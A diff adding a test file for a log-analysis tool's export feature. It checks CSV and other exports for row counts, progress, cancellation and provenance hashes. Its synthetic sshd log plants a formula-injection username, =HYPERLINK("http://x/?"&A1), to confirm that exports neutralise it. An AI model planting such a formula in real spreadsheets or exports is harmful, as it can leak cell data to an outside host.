@@ -1,0 +1,78 @@
+// Export through EngineApi as the worker runs it (fake-indexeddb): the Blob holds exactly the query's events,
+// progress is reported, a cancel stops it, and the provenance names the query, zone and source files with
+// the ledger's SHA-256.
+import 'fake-indexeddb/auto';
+import { describe, expect, it } from 'vitest';
+import { createHash } from 'node:crypto';
+import Papa from 'papaparse';
+import { createEngine } from '../../../src/workers/engine.ts';
+import type { ExportProgress } from '../../../src/workers/api.ts';
+import { isLiveFormula } from '../../../src/workers/export/neutralise.ts';
+import { LOGDROP_VERSION } from '../../../src/workers/export/provenance.ts';
+
+/** n sshd lines, one in 4 a failure from a hostile "user" that starts like a formula */
+function authLog(n: number): string {
+  const lines: string[] = [];
+  for (let i = 0; i < n; i++) {
+    const t = new Date(Date.UTC(2026, 0, 5, 8) + i * 1000).toISOString().slice(11, 19);
+    lines.push(i % 4 === 0
+      ? `Jan  5 ${t} bastion sshd[${100 + i}]: Failed password for invalid user =HYPERLINK("http://x/?"&A1) from 198.51.100.${i % 200} port ${40000 + i} ssh2`
+      : `Jan  5 ${t} bastion sshd[${100 + i}]: Accepted password for alice from 10.0.0.${i % 200} port ${40000 + i} ssh2`);
+  }
+  return lines.join('\n') + '\n';
+}
+
+async function engineWith(text: string) {
+  const engine = createEngine();
+  await engine.createCase('Export test: case/1');
+  const file = new File([text], 'auth.log', { lastModified: Date.UTC(2026, 0, 6) });
+  await engine.ingest([{ path: 'auth.log', file }], {}, () => {});
+  return engine;
+}
+
+describe('EngineApi export', () => {
+  it('exports the query\'s events as a CSV Blob with progress and provenance', async () => {
+    const text = authLog(10_000);
+    const engine = await engineWith(text);
+    const q = await engine.query('outcome:failure');
+    if (!q.ok) throw new Error(q.error.message);
+    expect(q.handle.total).toBe(2500);
+    const progress: ExportProgress[] = [];
+    const r = await engine.export(q.handle.id, 'csv-analyst', { timeZone: 'Europe/Berlin', query: 'outcome:failure', runId: 7 }, (p) => progress.push(p));
+    if (!r.ok) throw new Error(r.message);
+    expect(r.rows).toBe(2500);
+    expect(r.fileName).toMatch(/^Export-test-case-1-csv-analyst-\d{8}T\d{6}Z\.csv$/);
+    const rows = Papa.parse<string[]>(await r.blob.text(), { skipEmptyLines: true, delimiter: ',' }).data;
+    expect(rows.length).toBe(2501);
+    expect(rows[1][0]).toBe('2026-01-05T09:00:00.000+01:00');
+    expect(rows[1][6]).toBe('\'=HYPERLINK("http://x/?"&A1)');
+    expect(rows.flat().some(isLiveFormula)).toBe(false);
+    expect(progress.at(-1)).toEqual({ runId: 7, done: 2500, total: 2500 });
+    const sha = createHash('sha256').update(text).digest('hex');
+    expect(r.provenance).toMatchObject({
+      logdrop: { version: LOGDROP_VERSION }, exporter: { id: 'csv-analyst', version: 1 }, case: 'Export test: case/1',
+      query: 'outcome:failure', timeZone: 'Europe/Berlin', neutralised: true, rows: 2500,
+      files: [{ path: 'auth.log', sha256: sha, size: text.length }],
+    });
+  });
+
+  it('a cancel stops the export; a bad zone or index name is refused in words', async () => {
+    const engine = await engineWith(authLog(30_000));
+    const q = await engine.query('');
+    if (!q.ok) throw new Error(q.error.message);
+    let cancelled = false;
+    const r = await engine.export(q.handle.id, 'ndjson', { runId: 3 }, (p) => {
+      if (!cancelled && p.done > 0 && p.done < p.total) {
+        cancelled = true;
+        void engine.cancelExport(3);
+      }
+    });
+    expect(cancelled).toBe(true);
+    expect(r).toEqual({ ok: false, cancelled: true, message: 'The export was cancelled.' });
+    expect(await engine.export(q.handle.id, 'csv', { timeZone: 'Mars/Olympus' })).toMatchObject({ ok: false, message: expect.stringContaining('unknown time zone') });
+    expect(await engine.export(q.handle.id, 'es-bulk', { indexName: 'UPPER' })).toMatchObject({ ok: false, message: expect.stringContaining('lowercase') });
+    expect(await engine.export(q.handle.id, 'nope', {})).toMatchObject({ ok: false });
+    expect(await engine.export(9999, 'csv', {})).toMatchObject({ ok: false, message: expect.stringContaining('search again') });
+    expect((await engine.exporters()).map((e) => e.id)).toEqual(['csv', 'csv-analyst', 'csv-all', 'timesketch', 'csv-timeline-explorer', 'ndjson', 'ecs', 'es-bulk', 'es-template']);
+  });
+});
